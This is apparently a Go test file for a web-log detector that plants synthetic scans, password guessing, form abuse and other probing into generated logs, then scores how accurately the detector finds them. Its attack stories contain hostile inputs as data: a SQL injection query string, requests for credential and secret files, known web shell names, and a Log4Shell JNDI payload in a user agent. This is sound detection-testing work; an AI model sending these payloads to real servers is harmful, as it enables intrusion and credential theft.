package probe_test

import (
	"bytes"
	"flag"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/unveil-project/unveil/internal/detect/probe"
)

var (
	update = flag.Bool("update", false, "write the golden files anew")
	seeds  = flag.Int("seeds", 20, "generated logs per row of the accuracy table")
)

// story is one way of probing, of any size, or one innocent thing that looks
// like it. The addresses of probing are 192.0.x.y or 198.51.x.y.
type story struct {
	name   string
	family probe.Family // that must be found, where it is no innocent one
	plant  func(m *maker, size int)
	harm   bool
}

func strange(m *maker) string { return fmt.Sprintf("198.51.%d.%d", m.IntN(256), m.IntN(256)) }

// wordlist is what scanners ask for.
var wordlist = []string{"old", "new", "test", "tmp", "dev", "api", "beta", "stage", "files", "upload", "data", "export", "panel", "portal", "cgi", "conf", "logs", "bin", "src", "doc"}

var stories = []story{
	{"scan, one address", probe.Scanning, func(m *maker, n int) {
		c, at := strange(m), m.Float64()*3000
		for i := range 15 + n {
			at += m.ExpFloat64()
			m.hit(at, c, "GET", fmt.Sprintf("/%s%d", wordlist[m.IntN(len(wordlist))], i), "", 404, 500)
		}
	}, true},
	{"scan, slow", probe.Scanning, func(m *maker, n int) {
		c, at := strange(m), 0.0
		for i := range 25 + n/4 {
			at += m.ExpFloat64() * 7000 / float64(25+n/4)
			m.hit(at, c, "GET", fmt.Sprintf("/%s%d", wordlist[m.IntN(len(wordlist))], i), "", 404, 500)
		}
	}, true},
	{"scan, spread over a /24", probe.Scanning, func(m *maker, n int) {
		clients := 4 + n/10
		for i := range 6 * clients {
			m.hit(m.Float64()*7000, fmt.Sprintf("192.0.2.%d", i%clients), "GET", fmt.Sprintf("/%s%d", wordlist[m.IntN(len(wordlist))], i), "", 404, 500)
		}
	}, true},
	{"passwords, one address", probe.LoginBruteForce, func(m *maker, n int) {
		c, at := strange(m), m.Float64()*3000
		for range 10 + n {
			at += m.ExpFloat64() * 3
			m.hit(at, c, "POST", "/wp-login.php", "", 200, 4000)
		}
	}, true},
	{"passwords, many addresses", probe.CredentialStuffing, func(m *maker, n int) {
		for i := range 3 * (25 + n) {
			m.hit(m.Float64()*7000, fmt.Sprintf("198.51.%d.%d", i%(25+n)/200, i%(25+n)%200), "POST", "/login", "", 401, 90)
		}
	}, true},
	{"form filled in by programs", probe.FormAbuse, func(m *maker, n int) {
		for i := range 3 * (25 + n) {
			c, at := fmt.Sprintf("198.51.%d.%d", i%(25+n)/200, i%(25+n)%200), m.Float64()*7000
			m.hit(at, c, "GET", "/contacto", "", 200, 8000)
			m.hit(at+m.Float64()*2, c, "POST", "/contacto", "", 302, 0).Referer = "https://example.org/contacto"
		}
	}, true},
	{"injection", probe.SQLInjection, func(m *maker, n int) {
		c := strange(m)
		for i := range 1 + n/4 {
			m.hit(m.Float64()*7000, c, "GET", "/nota", fmt.Sprintf("id=%d%%27%%20or%%20%%271%%27=%%271", i), 200, 900)
		}
	}, true},
	{"secret files", probe.SensitiveFile, func(m *maker, n int) {
		for range 1 + n/8 {
			m.hit(m.Float64()*7000, strange(m), "GET", []string{"/.env", "/.git/HEAD", "/backup.sql", "/.aws/credentials"}[m.IntN(4)], "", 404, 500)
		}
	}, true},
	{"web shells", probe.WebShell, func(m *maker, n int) {
		c := strange(m)
		for range 1 + n/8 {
			m.hit(m.Float64()*7000, c, "GET", "/"+[]string{"c99", "wso", "r57", "alfa", "b374k"}[m.IntN(5)]+".php", "", 404, 500)
		}
	}, true},
	{"log4shell in the agent", probe.ExpressionInjection, func(m *maker, n int) {
		c := strange(m)
		for range 1 + n/8 {
			m.hit(m.Float64()*7000, c, "GET", "/", "", 200, 20_000).Agent = "${jndi:ldap://192.0.2.9/a}"
		}
	}, true},

	{name: "a page with broken links", plant: func(m *maker, n int) {
		for range n {
			m.hit(m.Float64()*7000, fmt.Sprintf("10.8.%d.%d", m.IntN(4), m.IntN(200)), "GET", fmt.Sprintf("/viejo/%d.html", m.IntN(60)), "", 404, 500).Referer = "https://example.org/mapa"
		}
	}},
	{name: "logins fail for all, an hour", plant: func(m *maker, n int) {
		for i := range 20 + n {
			c, at := fmt.Sprintf("10.7.%d.%d", i/200, i%200), 1000+m.Float64()*3600
			m.hit(at, c, "GET", "/login", "", 200, 5000)
			m.hit(at+0.2, c, "GET", "/a.css", "", 200, 900).Referer = "https://example.org/login"
			for k := range 1 + m.IntN(3) {
				m.hit(at+15+float64(k)*25, c, "POST", "/login", "", 401, 90).Referer = "https://example.org/login"
			}
		}
	}},
	{name: "a poll that many vote in", plant: func(m *maker, n int) {
		for i := range 100 + 10*n {
			c, at := fmt.Sprintf("10.6.%d.%d", i/200, i%200), 2000+m.ExpFloat64()*900
			m.hit(at, c, "GET", "/encuesta", "", 200, 9000)
			m.hit(at+0.3, c, "GET", "/a.css", "", 200, 900).Referer = "https://example.org/encuesta"
			m.hit(at+4+m.ExpFloat64()*20, c, "POST", "/encuesta", "", 302, 0).Referer = "https://example.org/encuesta"
		}
	}},
	{name: "an application's reports", plant: func(m *maker, n int) {
		for i := range 200 + 10*n {
			m.hit(m.Float64()*7000, fmt.Sprintf("10.5.%d.%d", i%400/200, i%200), "POST", "/api/v1/events", "", 204, 0).Agent = "ResultadosApp/2.1"
		}
	}},
	{name: "a crawler with old addresses", plant: func(m *maker, n int) {
		for i := range 20 + n {
			m.hit(float64(i)*7000/float64(20+n), "10.4.0.1", "GET", fmt.Sprintf("/archivo/%d.html", i), "", 404, 500).Agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
		}
	}},
	{name: "searches with words of SQL", plant: func(m *maker, n int) {
		for range 20 + n {
			m.hit(m.Float64()*7000, fmt.Sprintf("10.3.0.%d", m.IntN(250)), "GET", "/buscar", "q="+[]string{"union+de+credito", "select+comfort", "script+de+cine", "hora+de+dormir", "order+by+phone"}[m.IntN(5)], 200, 8000).Referer = "https://example.org/"
		}
	}},
	{name: "an old password in a program", plant: func(m *maker, n int) {
		for i := range 3 + n/20 {
			m.hit(float64(i)*7000/float64(3+n/20), "10.2.0.1", "GET", "/privado/feed.xml", "", 401, 90).Agent = "FeedReader/1.0"
		}
	}},
}

// tally is one row of the accuracy table.
type tally struct{ logs, right, planted, named, correct, other int }

// TestAccuracy holds the table of what is found of what was planted, over
// logs of many sizes; docs/methods/probe.md prints it.
func TestAccuracy(t *testing.T) {
	if testing.Short() {
		t.Skip("scans 340 logs")
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "%-32s %5s %6s %9s %7s %6s\n", "planted", "logs", "right", "precision", "recall", "other")
	var harm, calm tally
	for _, s := range stories {
		var row tally
		for seed := range *seeds {
			row.score(s, uint64(seed+1))
		}
		fmt.Fprintf(&b, "%-32s %5d %6s %9s %7s %6d\n", s.name, row.logs, share(row.right, row.logs), share(row.correct, row.named), share(row.correct, row.planted), row.other)
		total := &calm
		if s.harm {
			total = &harm
		}
		total.logs, total.right = total.logs+row.logs, total.right+row.right
	}
	fmt.Fprintf(&b, "%-32s %5d %6s\n%-32s %5d %6s\n", "all probing", harm.logs, share(harm.right, harm.logs), "all innocent", calm.logs, share(calm.right, calm.logs))
	if 100*harm.right < 95*harm.logs || 100*calm.right < 95*calm.logs {
		t.Errorf("fewer than 95 %% right:\n%s", b.String())
	}
	if *seeds == 20 {
		golden(t, "accuracy.txt", b.String())
	}
}

// score reads one log. Probing is right where its family was found with most
// of its addresses; an innocent thing where no probe names any address.
func (row *tally) score(s story, seed uint64) {
	m := newMaker(seed)
	m.visitors(400, 7200)
	before := len(m.out)
	s.plant(m, 1+int(math.Exp(m.Float64()*math.Log(200))))
	planted := map[string]bool{}
	for _, r := range m.out[before:] {
		planted[r.Client] = true
	}
	table := m.log().table()
	res := probe.Scan(table, probe.Options{})
	row.logs++
	if !s.harm {
		if len(res.Probes) == 0 {
			row.right++
		}
		row.other += len(res.Probes)
		return
	}
	row.planted += len(planted)
	found := 0
	for _, p := range res.Probes {
		if p.Family != s.family {
			row.other++
			continue
		}
		for _, c := range p.Members {
			row.named++
			if planted[table.Clients.Text(c)] {
				found++
			}
		}
	}
	row.correct += found
	if 10*found >= 9*len(planted) {
		row.right++
	}
}

func share(n, of int) string {
	if of == 0 {
		return "–"
	}
	return fmt.Sprintf("%.3f", float64(n)/float64(of))
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(got, "\n")); d != "" {
		t.Errorf("-golden +got (-update accepts it)\n%s", d)
	}
}
